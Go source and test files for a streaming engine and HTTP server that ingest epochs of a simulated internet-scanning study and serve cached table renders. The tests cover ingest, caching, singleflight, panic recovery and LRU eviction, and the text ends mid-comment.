		// material is internally inconsistent; regeneration below
		// rewrites it.
		if restored, rerr := core.RestoreEpochSet(cfg.Study, m); rerr == nil {
			es, recovered = restored, true
		}
	}
	if es == nil {
		es, err = core.GenerateEpochs(cfg.Study, epochs)
		if err != nil {
			return nil, err
		}
		if err := st.WriteStudy(cfgJSON, es.Material()); err != nil {
			return nil, err
		}
	}
	if recovered {
		store.RecoveryOutcome("recovered")
	} else {
		store.RecoveryOutcome("regenerated")
	}

	eng := &Engine{
		es:        es,
		inc:       es.Incremental(),
		st:        st,
		recovered: recovered,
	}
	n := st.Ingested()
	if n > es.NumEpochs() {
		n = es.NumEpochs()
	}
	for p := 1; p <= n; p++ {
		snap, err := eng.inc.Advance()
		if err != nil {
			return nil, fmt.Errorf("stream: rehydrate epoch %d/%d: %w", p, n, err)
		}
		if eng.tip != nil {
			eng.cache.put(p-1, eng.tip)
		}
		eng.tip = snap
		eng.ingested = p
	}
	return eng, nil
}

// normalizedConfigJSON is the identity of a study for store matching:
// the epoch count plus the study config with Workers and WindowSec
// zeroed — both are execution parameters (sharding width, batch
// truncation) under which results are byte-identical, so material
// generated at any value of either restores under any other. The
// scenario id is canonicalized (empty means baseline) so the spelling
// of "the paper's week" never splits store identity; a genuinely
// different scenario yields different JSON, which is what makes a
// store written under one scenario refuse to serve another.
func normalizedConfigJSON(cfg Config) (js []byte, epochs int, err error) {
	epochs = cfg.Epochs
	if epochs <= 0 {
		epochs = DefaultEpochs
	}
	study := cfg.Study
	study.Workers = 0
	study.WindowSec = 0
	study.Actors.Scenario = scanners.CanonicalScenario(study.Actors.Scenario)
	js, err = json.Marshal(struct {
		Epochs int
		Study  core.Config
	}{epochs, study})
	return js, epochs, err
}
