package stream

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func newTestServer(t *testing.T) (*Server, *httptest.Server) {
	t.Helper()
	eng := newTestEngine(t, 3)
	srv := NewServer(eng)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return srv, ts
}

func getJSON(t *testing.T, url string, wantStatus int, v any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != wantStatus {
		t.Fatalf("GET %s = %d, want %d", url, resp.StatusCode, wantStatus)
	}
	if v != nil {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			t.Fatalf("decoding %s: %v", url, err)
		}
	}
}

func TestServerStatusAndIngest(t *testing.T) {
	_, ts := newTestServer(t)

	var st statusResponse
	getJSON(t, ts.URL+"/v1/status", http.StatusOK, &st)
	if st.Epochs != 3 || st.Ingested != 0 || len(st.EpochList) != 3 {
		t.Fatalf("status = %+v", st)
	}
	if len(st.Experiments) != 12 || st.Experiments[0] != "table1" {
		t.Fatalf("experiments = %v", st.Experiments)
	}

	// POST /v1/ingest advances one epoch at a time, then reports done.
	for want := 1; want <= 3; want++ {
		resp, err := http.Post(ts.URL+"/v1/ingest", "", nil)
		if err != nil {
			t.Fatal(err)
		}
		var ing ingestResponse
		if err := json.NewDecoder(resp.Body).Decode(&ing); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if ing.Done || ing.Prefix != want {
			t.Fatalf("ingest #%d = %+v", want, ing)
		}
	}
	resp, err := http.Post(ts.URL+"/v1/ingest", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var ing ingestResponse
	if err := json.NewDecoder(resp.Body).Decode(&ing); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if !ing.Done {
		t.Fatalf("fourth ingest should report done, got %+v", ing)
	}
}

func TestServerSnapshotRenderAndCache(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}

	var first, second snapshotResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusOK, &first)
	if first.Cached || first.Output == "" || !strings.Contains(first.Output, "Table 2") {
		t.Fatalf("first render = %+v", first)
	}
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusOK, &second)
	if !second.Cached || second.Output != first.Output {
		t.Fatal("second request should be a cache hit with identical output")
	}

	// The served output equals a direct snapshot render.
	snap, err := srv.Engine().Snapshot(2)
	if err != nil {
		t.Fatal(err)
	}
	if want := snap.Table2().Render(); first.Output != want {
		t.Fatal("served output differs from direct render")
	}

	// Unknown experiments 404 and list the valid names.
	var e errorResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table99", http.StatusNotFound, &e)
	if !strings.Contains(e.Error, "figure1") {
		t.Fatalf("error should list valid experiments: %q", e.Error)
	}
	// Un-ingested and absurd prefixes fail cleanly.
	getJSON(t, ts.URL+"/v1/snapshot/9/table2", http.StatusNotFound, &e)
	getJSON(t, ts.URL+"/v1/snapshot/x/table2", http.StatusBadRequest, &e)
}

func TestServerSweep(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	var res SweepResult
	getJSON(t, ts.URL+"/v1/sweep?tables=table2&kmin=1&kmax=3&prefixes=1,3", http.StatusOK, &res)
	if want := 2 * 3; res.Renders != want {
		t.Fatalf("sweep renders = %d, want %d", res.Renders, want)
	}

	// Server-level sweep defaults (the CLI's -sweep-* flags) seed
	// requests; query parameters override them individually.
	srv.SetSweepDefaults(SweepRequest{Tables: []string{"table5"}, KMin: 2, KMax: 4, Prefixes: []int{1}})
	getJSON(t, ts.URL+"/v1/sweep", http.StatusOK, &res)
	if res.Renders != 3 || res.Cells[0].Table != "table5" || res.Cells[0].K != 2 {
		t.Fatalf("default-seeded sweep = %d renders, first cell %+v", res.Renders, res.Cells[0])
	}
	getJSON(t, ts.URL+"/v1/sweep?kmax=2&prefixes=1,2", http.StatusOK, &res)
	if res.Renders != 2*1 { // K=2..2 x prefixes {1,2} x table5
		t.Fatalf("override sweep renders = %d, want 2", res.Renders)
	}
	var e errorResponse
	getJSON(t, ts.URL+"/v1/sweep?tables=bogus", http.StatusBadRequest, &e)
	if !strings.Contains(e.Error, "table2") {
		t.Fatalf("sweep error should list valid tables: %q", e.Error)
	}
	getJSON(t, ts.URL+"/v1/sweep?kmin=x", http.StatusBadRequest, &e)
}
