package stream

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"cloudwatch/internal/core"
)

func newTestServer(t *testing.T) (*Server, *httptest.Server) {
	t.Helper()
	eng := newTestEngine(t, 3)
	srv := NewServer(eng)
	srv.SetLogger(nil) // keep request metrics, silence per-request log lines
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return srv, ts
}

func getJSON(t *testing.T, url string, wantStatus int, v any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != wantStatus {
		t.Fatalf("GET %s = %d, want %d", url, resp.StatusCode, wantStatus)
	}
	if v != nil {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			t.Fatalf("decoding %s: %v", url, err)
		}
	}
}

func TestServerStatusAndIngest(t *testing.T) {
	_, ts := newTestServer(t)

	var st statusResponse
	getJSON(t, ts.URL+"/v1/status", http.StatusOK, &st)
	if st.Epochs != 3 || st.Ingested != 0 || len(st.EpochList) != 3 {
		t.Fatalf("status = %+v", st)
	}
	if len(st.Experiments) != 12 || st.Experiments[0] != "table1" {
		t.Fatalf("experiments = %v", st.Experiments)
	}

	// POST /v1/ingest advances one epoch at a time, then reports done.
	for want := 1; want <= 3; want++ {
		resp, err := http.Post(ts.URL+"/v1/ingest", "", nil)
		if err != nil {
			t.Fatal(err)
		}
		var ing ingestResponse
		if err := json.NewDecoder(resp.Body).Decode(&ing); err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if ing.Done || ing.Prefix != want {
			t.Fatalf("ingest #%d = %+v", want, ing)
		}
	}
	resp, err := http.Post(ts.URL+"/v1/ingest", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var ing ingestResponse
	if err := json.NewDecoder(resp.Body).Decode(&ing); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if !ing.Done {
		t.Fatalf("fourth ingest should report done, got %+v", ing)
	}
}

func TestServerSnapshotRenderAndCache(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}

	var first, second snapshotResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusOK, &first)
	if first.Cached || first.Output == "" || !strings.Contains(first.Output, "Table 2") {
		t.Fatalf("first render = %+v", first)
	}
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusOK, &second)
	if !second.Cached || second.Output != first.Output {
		t.Fatal("second request should be a cache hit with identical output")
	}

	// The served output equals a direct snapshot render.
	snap, err := srv.Engine().Snapshot(2)
	if err != nil {
		t.Fatal(err)
	}
	if want := snap.Table2().Render(); first.Output != want {
		t.Fatal("served output differs from direct render")
	}

	// Unknown experiments 404 and list the valid names.
	var e errorResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table99", http.StatusNotFound, &e)
	if !strings.Contains(e.Error, "figure1") {
		t.Fatalf("error should list valid experiments: %q", e.Error)
	}
	// Un-ingested and absurd prefixes fail cleanly.
	getJSON(t, ts.URL+"/v1/snapshot/9/table2", http.StatusNotFound, &e)
	getJSON(t, ts.URL+"/v1/snapshot/x/table2", http.StatusBadRequest, &e)
}

func TestServerSweep(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	var res SweepResult
	getJSON(t, ts.URL+"/v1/sweep?tables=table2&kmin=1&kmax=3&prefixes=1,3", http.StatusOK, &res)
	if want := 2 * 3; res.Renders != want {
		t.Fatalf("sweep renders = %d, want %d", res.Renders, want)
	}

	// Server-level sweep defaults (the CLI's -sweep-* flags) seed
	// requests; query parameters override them individually.
	srv.SetSweepDefaults(SweepRequest{Tables: []string{"table5"}, KMin: 2, KMax: 4, Prefixes: []int{1}})
	getJSON(t, ts.URL+"/v1/sweep", http.StatusOK, &res)
	if res.Renders != 3 || res.Cells[0].Table != "table5" || res.Cells[0].K != 2 {
		t.Fatalf("default-seeded sweep = %d renders, first cell %+v", res.Renders, res.Cells[0])
	}
	getJSON(t, ts.URL+"/v1/sweep?kmax=2&prefixes=1,2", http.StatusOK, &res)
	if res.Renders != 2*1 { // K=2..2 x prefixes {1,2} x table5
		t.Fatalf("override sweep renders = %d, want 2", res.Renders)
	}
	var e errorResponse
	getJSON(t, ts.URL+"/v1/sweep?tables=bogus", http.StatusBadRequest, &e)
	if !strings.Contains(e.Error, "table2") {
		t.Fatalf("sweep error should list valid tables: %q", e.Error)
	}
	getJSON(t, ts.URL+"/v1/sweep?kmin=x", http.StatusBadRequest, &e)
}

// TestServerSweepTablesParsing checks /v1/sweep parses the tables
// parameter like the CLI's -sweep-tables flag: whitespace around parts
// is trimmed, empty parts are skipped, and a list of only empty parts
// falls back to the configured defaults.
func TestServerSweepTablesParsing(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}

	var res SweepResult
	q := url.Values{"tables": {" table2, table5 ,"}, "kmin": {"1"}, "kmax": {"1"}, "prefixes": {"1"}}
	getJSON(t, ts.URL+"/v1/sweep?"+q.Encode(), http.StatusOK, &res)
	if res.Renders != 2 {
		t.Fatalf("padded tables list rendered %d cells, want 2", res.Renders)
	}
	seen := map[string]bool{}
	for _, cell := range res.Cells {
		seen[cell.Table] = true
	}
	if !seen["table2"] || !seen["table5"] {
		t.Fatalf("padded tables list rendered %v, want table2 and table5", seen)
	}

	// Only-empty parts behave like an absent parameter: the server
	// defaults win.
	srv.SetSweepDefaults(SweepRequest{Tables: []string{"table7"}, KMin: 1, KMax: 1, Prefixes: []int{1}})
	q = url.Values{"tables": {" , ,"}}
	getJSON(t, ts.URL+"/v1/sweep?"+q.Encode(), http.StatusOK, &res)
	if res.Renders != 1 || res.Cells[0].Table != "table7" {
		t.Fatalf("empty tables list = %d renders of %q, want the table7 default",
			res.Renders, res.Cells[0].Table)
	}

	// A padded-but-bogus part still fails with the valid names.
	var e errorResponse
	q = url.Values{"tables": {" table2, bogus "}}
	getJSON(t, ts.URL+"/v1/sweep?"+q.Encode(), http.StatusBadRequest, &e)
	if !strings.Contains(e.Error, "bogus") || !strings.Contains(e.Error, "table10") {
		t.Fatalf("bad-table error should name the part and the valid tables: %q", e.Error)
	}
}

// TestServerSnapshotSingleflight fires concurrent requests at one cold
// (prefix, experiment) key: exactly one must render, exactly one must
// report cached=false, and everyone must get the same output.
func TestServerSnapshotSingleflight(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	var renders int32
	inner := srv.render
	srv.render = func(s *core.Study, experiment string) (string, bool) {
		atomic.AddInt32(&renders, 1)
		time.Sleep(25 * time.Millisecond) // hold the cold window open
		return inner(s, experiment)
	}

	const n = 8
	resps := make([]snapshotResponse, n)
	errs := make([]error, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, err := http.Get(ts.URL + "/v1/snapshot/2/table5")
			if err != nil {
				errs[i] = err
				return
			}
			defer resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				errs[i] = fmt.Errorf("status %d", resp.StatusCode)
				return
			}
			errs[i] = json.NewDecoder(resp.Body).Decode(&resps[i])
		}(i)
	}
	wg.Wait()

	for i, err := range errs {
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
	}
	if got := atomic.LoadInt32(&renders); got != 1 {
		t.Fatalf("concurrent cold requests rendered %d times, want exactly 1", got)
	}
	cold := 0
	for i, r := range resps {
		if !r.Cached {
			cold++
		}
		if r.Output == "" || r.Output != resps[0].Output {
			t.Fatalf("request %d output diverges", i)
		}
	}
	if cold != 1 {
		t.Fatalf("%d responses report cached=false, want exactly 1", cold)
	}

	// The key is now warm: one more request is a cache hit with no new
	// render.
	var warm snapshotResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table5", http.StatusOK, &warm)
	if !warm.Cached || warm.Output != resps[0].Output || atomic.LoadInt32(&renders) != 1 {
		t.Fatal("warm request should hit the cache without rendering")
	}
}

// TestServerSnapshotErrorPrecedence checks a request wrong in both
// dimensions gets the unknown-experiment answer: experiment validity is
// decided before the engine is asked for the snapshot.
func TestServerSnapshotErrorPrecedence(t *testing.T) {
	_, ts := newTestServer(t) // nothing ingested

	var e errorResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/tableX", http.StatusNotFound, &e)
	if !strings.Contains(e.Error, "unknown experiment") || !strings.Contains(e.Error, "figure1") {
		t.Fatalf("unknown experiment on an un-ingested prefix should win and list valid names: %q", e.Error)
	}
	// With a valid experiment the prefix error surfaces.
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusNotFound, &e)
	if !strings.Contains(e.Error, "not ingested") {
		t.Fatalf("valid experiment on an un-ingested prefix should report ingestion state: %q", e.Error)
	}
}
