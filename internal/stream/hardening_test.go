package stream

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/store"
)

// TestServerDeferredEngineAttachment drives the boot sequence the CLI
// uses: listener up first, engine attached later. Liveness answers
// immediately, readiness and the API flip from 503 exactly when the
// engine lands and the first epoch ingests.
func TestServerDeferredEngineAttachment(t *testing.T) {
	srv := NewServer(nil)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)

	getJSON(t, ts.URL+"/healthz", http.StatusOK, nil)
	getJSON(t, ts.URL+"/readyz", http.StatusServiceUnavailable, nil)
	getJSON(t, ts.URL+"/v1/status", http.StatusServiceUnavailable, nil)
	getJSON(t, ts.URL+"/v1/snapshot/1/table2", http.StatusServiceUnavailable, nil)

	eng := newTestEngine(t, 3)
	srv.SetEngine(eng)
	getJSON(t, ts.URL+"/v1/status", http.StatusOK, nil)
	getJSON(t, ts.URL+"/readyz", http.StatusServiceUnavailable, nil) // attached but nothing ingested

	if _, _, err := eng.IngestNext(); err != nil {
		t.Fatal(err)
	}
	var ready struct {
		Status    string `json:"status"`
		Ingested  int    `json:"ingested"`
		Recovered bool   `json:"recovered"`
	}
	getJSON(t, ts.URL+"/readyz", http.StatusOK, &ready)
	if ready.Status != "ready" || ready.Ingested != 1 || ready.Recovered {
		t.Fatalf("readyz = %+v", ready)
	}
	getJSON(t, ts.URL+"/healthz", http.StatusOK, nil)
}

// TestServerRenderPanicReleasesWaiters is the singleflight-hang
// satellite: a panicking render must close the entry's ready channel,
// evict the entry, and answer 500 to the renderer AND every waiter —
// then a later request re-renders successfully. Before the fix, the
// waiters blocked forever on a channel nobody would ever close.
func TestServerRenderPanicReleasesWaiters(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	inner := srv.render
	var renders, panics int32
	srv.render = func(s *core.Study, experiment string) (string, bool) {
		if atomic.AddInt32(&renders, 1) == 1 {
			atomic.AddInt32(&panics, 1)
			time.Sleep(25 * time.Millisecond) // let waiters pile onto the entry
			panic("injected render panic")
		}
		return inner(s, experiment)
	}

	const n = 6
	codes := make([]int, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, err := http.Get(ts.URL + "/v1/snapshot/2/table2")
			if err != nil {
				codes[i] = -1
				return
			}
			defer resp.Body.Close()
			if resp.StatusCode == http.StatusInternalServerError {
				var e struct {
					Error string `json:"error"`
				}
				if json.NewDecoder(resp.Body).Decode(&e) != nil || e.Error == "" {
					codes[i] = -2 // 500 without a JSON error body
					return
				}
			}
			codes[i] = resp.StatusCode
		}(i)
	}

	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("waiters hung on a panicked render (ready channel never closed)")
	}
	// The panicking flight answers 500; waiters that joined it answer
	// 500 too; stragglers that arrived after eviction may have
	// re-rendered successfully (render #2 onward succeeds).
	for i, code := range codes {
		if code != http.StatusInternalServerError && code != http.StatusOK {
			t.Fatalf("request %d: code %d", i, code)
		}
	}
	if atomic.LoadInt32(&panics) != 1 {
		t.Fatalf("panic hook fired %d times", panics)
	}

	// The entry was evicted: the key renders again and serves fine.
	before := atomic.LoadInt32(&renders)
	var resp snapshotResponse
	getJSON(t, ts.URL+"/v1/snapshot/2/table2", http.StatusOK, &resp)
	if resp.Output == "" {
		t.Fatal("re-render after panic produced no output")
	}
	if atomic.LoadInt32(&renders) == before && !resp.Cached {
		t.Fatal("cold response without a render")
	}
}

// TestServerPanicMiddlewareJSON checks the recovery middleware's
// contract: a panic escaping a handler produces a JSON 500 on a live
// connection, not a dropped one.
func TestServerPanicMiddlewareJSON(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	srv.render = func(s *core.Study, experiment string) (string, bool) { panic("boom") }
	resp, err := http.Get(ts.URL + "/v1/snapshot/1/table2")
	if err != nil {
		t.Fatalf("connection dropped instead of JSON 500: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("content-type %q", ct)
	}
	var e struct {
		Error string `json:"error"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&e); err != nil || e.Error == "" {
		t.Fatalf("error body: %q, %v", e.Error, err)
	}
}

// TestServerRenderCacheLRU is the bounded-cache satellite: with a cap
// of 2, touching a third key evicts the least-recently-used one, and
// the evicted key re-renders (cached=false) on its next request.
func TestServerRenderCacheLRU(t *testing.T) {
	srv, ts := newTestServer(t)
	if err := srv.Engine().IngestAll(); err != nil {
		t.Fatal(err)
	}
	srv.SetRenderCacheCap(2)
	var renders int32
	inner := srv.render
	srv.render = func(s *core.Study, experiment string) (string, bool) {
		atomic.AddInt32(&renders, 1)
		return inner(s, experiment)
	}

	get := func(path string) snapshotResponse {
		t.Helper()
		var resp snapshotResponse
		getJSON(t, ts.URL+path, http.StatusOK, &resp)
		return resp
	}

	a := get("/v1/snapshot/1/table2") // cache: A
	if a.Cached {
		t.Fatal("first A render reported cached")
	}
	get("/v1/snapshot/2/table2")                              // cache: B A
	if again := get("/v1/snapshot/1/table2"); !again.Cached { // cache: A B
		t.Fatal("A evicted prematurely")
	}
	get("/v1/snapshot/3/table2") // cache: C A — evicts B (LRU), not A
	if got := atomic.LoadInt32(&renders); got != 3 {
		t.Fatalf("%d renders after 3 distinct keys, want 3", got)
	}
	if again := get("/v1/snapshot/1/table2"); !again.Cached {
		t.Fatal("A evicted despite being recently used")
	}
	if b := get("/v1/snapshot/2/table2"); b.Cached {
		t.Fatal("B served from cache after eviction")
	}
	if got := atomic.LoadInt32(&renders); got != 4 {
		t.Fatalf("%d renders, want 4 (B re-rendered once)", got)
	}
}

// TestServerIngestPersistFailureIs500 is the error-propagation
// satellite at the HTTP layer: when the store cannot persist the
// ingest cursor, POST /v1/ingest answers non-200 with the error, and
// a retry after the fault clears succeeds.
func TestServerIngestPersistFailureIs500(t *testing.T) {
	fsys := store.NewMemFS()
	st, err := store.Open(fsys, "study")
	if err != nil {
		t.Fatal(err)
	}
	eng, err := Open(Config{Study: testStudyConfig(42, 2021), Epochs: 2}, st)
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(eng)
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)

	post := func(wantStatus int) {
		t.Helper()
		resp, err := http.Post(ts.URL+"/v1/ingest", "application/json", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != wantStatus {
			t.Fatalf("POST /v1/ingest = %d, want %d", resp.StatusCode, wantStatus)
		}
	}
	post(http.StatusOK)

	fsys.SyncHook = func(string) error { return fmt.Errorf("disk full") }
	post(http.StatusInternalServerError)
	fsys.SyncHook = nil

	// The failed POST still ingested in memory (epoch 2 of 2), so the
	// retry reports done without error.
	var resp ingestResponse
	r, err := http.Post(ts.URL+"/v1/ingest", "application/json", nil)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Body.Close()
	if r.StatusCode != http.StatusOK {
		t.Fatalf("retry = %d", r.StatusCode)
	}
	if err := json.NewDecoder(r.Body).Decode(&resp); err != nil {
		t.Fatal(err)
	}
	if !resp.Done || resp.Ingested != 2 {
		t.Fatalf("retry response %+v", resp)
	}
}
