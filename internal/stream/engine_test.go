package stream

import (
	"strings"
	"sync"
	"testing"

	"cloudwatch/internal/core"
)

// testStudyConfig is the scaled-down study the package tests stream
// (mirrors internal/core's testConfig).
func testStudyConfig(seed int64, year int) core.Config {
	cfg := core.DefaultConfig(seed, year)
	cfg.Deploy.TelescopeSlash24s = 32
	cfg.Deploy.HoneytrapPerCloud = 16
	cfg.Deploy.HurricaneIPs = 16
	cfg.Actors.Scale = 0.4
	return cfg
}

func newTestEngine(t *testing.T, epochs int) *Engine {
	t.Helper()
	eng, err := New(Config{Study: testStudyConfig(42, 2021), Epochs: epochs})
	if err != nil {
		t.Fatal(err)
	}
	return eng
}

func TestEngineIngestLifecycle(t *testing.T) {
	eng := newTestEngine(t, 4)
	if eng.NumEpochs() != 4 {
		t.Fatalf("NumEpochs = %d, want 4", eng.NumEpochs())
	}
	if eng.Ingested() != 0 {
		t.Fatalf("fresh engine reports %d ingested", eng.Ingested())
	}
	if _, err := eng.Snapshot(1); err == nil {
		t.Fatal("Snapshot before ingest should fail")
	}
	for want := 1; want <= 4; want++ {
		p, ok, err := eng.IngestNext()
		if err != nil || !ok || p != want {
			t.Fatalf("IngestNext = (%d, %v, %v), want (%d, true, nil)", p, ok, err, want)
		}
	}
	if _, ok, _ := eng.IngestNext(); ok {
		t.Fatal("IngestNext past the last epoch should report done")
	}
	// Prefix record counts are monotonically non-decreasing and the
	// final snapshot holds the whole week.
	prev := 0
	total := 0
	for e := 0; e < 4; e++ {
		total += eng.EpochRecords(e)
	}
	for p := 1; p <= 4; p++ {
		snap, err := eng.Snapshot(p)
		if err != nil {
			t.Fatal(err)
		}
		if snap.NumRecords() < prev {
			t.Fatalf("prefix %d shrank: %d < %d", p, snap.NumRecords(), prev)
		}
		prev = snap.NumRecords()
	}
	if prev != total {
		t.Fatalf("final snapshot has %d records, epoch sum is %d", prev, total)
	}
}

func TestEngineSnapshotWindowedConfig(t *testing.T) {
	eng := newTestEngine(t, 3)
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	for p := 1; p <= 3; p++ {
		snap, err := eng.Snapshot(p)
		if err != nil {
			t.Fatal(err)
		}
		if p < 3 && snap.Cfg.WindowSec == 0 {
			t.Fatalf("prefix %d snapshot claims the full week", p)
		}
		if p == 3 && snap.Cfg.WindowSec != 0 {
			t.Fatalf("final snapshot carries a truncation window (%d)", snap.Cfg.WindowSec)
		}
	}
}

func TestSweepGridAndValidation(t *testing.T) {
	eng := newTestEngine(t, 3)
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}

	res, err := eng.Sweep(SweepRequest{Tables: []string{"table2", "table5"}, KMin: 1, KMax: 4})
	if err != nil {
		t.Fatal(err)
	}
	if want := 3 * 4 * 2; res.Renders != want || len(res.Cells) != want {
		t.Fatalf("sweep rendered %d cells, want %d", len(res.Cells), want)
	}
	// Every cell must match a direct AtK render on the same snapshot.
	for _, cell := range res.Cells[:8] {
		snap, err := eng.Snapshot(cell.Prefix)
		if err != nil {
			t.Fatal(err)
		}
		want, ok := core.RenderExperimentAtK(snap, cell.Table, cell.K)
		if !ok || cell.Output != want {
			t.Fatalf("sweep cell (p=%d k=%d %s) differs from direct render", cell.Prefix, cell.K, cell.Table)
		}
	}
	// The K=3 grid line must equal the un-parameterized tables.
	for _, cell := range res.Cells {
		if cell.K != core.TopK || cell.Table != "table2" {
			continue
		}
		snap, _ := eng.Snapshot(cell.Prefix)
		if want := snap.Table2().Render(); cell.Output != want {
			t.Fatalf("K=3 sweep cell differs from Table2 at prefix %d", cell.Prefix)
		}
	}

	// Defaults: all ingested prefixes, K=1..10, table2+table5.
	res, err = eng.Sweep(SweepRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if want := 3 * 10 * 2; res.Renders != want {
		t.Fatalf("default sweep rendered %d, want %d", res.Renders, want)
	}

	// Rendered cells state the width actually compared: K != TopK
	// relabels the top-K characteristics, K == TopK keeps the paper's
	// fixed "Top 3" names.
	for _, cell := range res.Cells {
		if cell.Table != "table2" {
			continue
		}
		switch cell.K {
		case 3:
			if strings.Contains(cell.Output, "Top 4") || !strings.Contains(cell.Output, "Top 3 AS") {
				t.Fatalf("K=3 cell mislabeled:\n%s", cell.Output)
			}
		case 4:
			if !strings.Contains(cell.Output, "Top 4 AS") || strings.Contains(cell.Output, "Top 3 AS") {
				t.Fatalf("K=4 cell still labeled Top 3:\n%s", cell.Output)
			}
		}
	}

	// Duplicate prefixes collapse instead of double-counting renders.
	res, err = eng.Sweep(SweepRequest{Tables: []string{"table2"}, KMin: 1, KMax: 2, Prefixes: []int{2, 2, 2}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Renders != 2 {
		t.Fatalf("duplicate-prefix sweep rendered %d, want 2", res.Renders)
	}

	// Each K bound defaults independently, per the field docs.
	res, err = eng.Sweep(SweepRequest{Tables: []string{"table2"}, KMax: 2, Prefixes: []int{1}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Renders != 2 { // K = 1..2
		t.Fatalf("kmax-only sweep rendered %d, want 2", res.Renders)
	}
	res, err = eng.Sweep(SweepRequest{Tables: []string{"table2"}, KMin: 9, Prefixes: []int{1}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Renders != 2 { // K = 9..10
		t.Fatalf("kmin-only sweep rendered %d, want 2", res.Renders)
	}

	// Validation errors name the valid values.
	if _, err := eng.Sweep(SweepRequest{Tables: []string{"table9"}}); err == nil || !strings.Contains(err.Error(), "table10") {
		t.Fatalf("bad table error should list valid tables, got %v", err)
	}
	if _, err := eng.Sweep(SweepRequest{KMin: 5, KMax: 2}); err == nil {
		t.Fatal("inverted K range should fail")
	}
	if _, err := eng.Sweep(SweepRequest{Prefixes: []int{9}}); err == nil {
		t.Fatal("out-of-range prefix should fail")
	}
}

// TestSnapshotLRUEvictionFallback covers the non-tip snapshot path:
// prefixes served from the LRU are the chain-assembled snapshots, and
// a prefix that has fallen out of the LRU is reassembled from scratch
// and renders byte-identically to the chain snapshot it replaced.
func TestSnapshotLRUEvictionFallback(t *testing.T) {
	eng := newTestEngine(t, 4)
	if err := eng.IngestAll(); err != nil {
		t.Fatal(err)
	}
	// Reference renders from the chain snapshots, while still cached.
	want := make(map[int]string)
	for p := 1; p <= 4; p++ {
		snap, err := eng.Snapshot(p)
		if err != nil {
			t.Fatal(err)
		}
		want[p] = snap.Table2().Render() + snap.Table5().Render()
	}
	// Simulate every non-tip prefix falling out of the LRU.
	eng.cache.mu.Lock()
	eng.cache.entries = nil
	eng.cache.mu.Unlock()
	for p := 1; p <= 4; p++ {
		snap, err := eng.Snapshot(p)
		if err != nil {
			t.Fatalf("prefix %d after eviction: %v", p, err)
		}
		if got := snap.Table2().Render() + snap.Table5().Render(); got != want[p] {
			t.Fatalf("prefix %d reassembled snapshot renders differently", p)
		}
	}
	// The reassembled non-tip prefixes are cached again: a second read
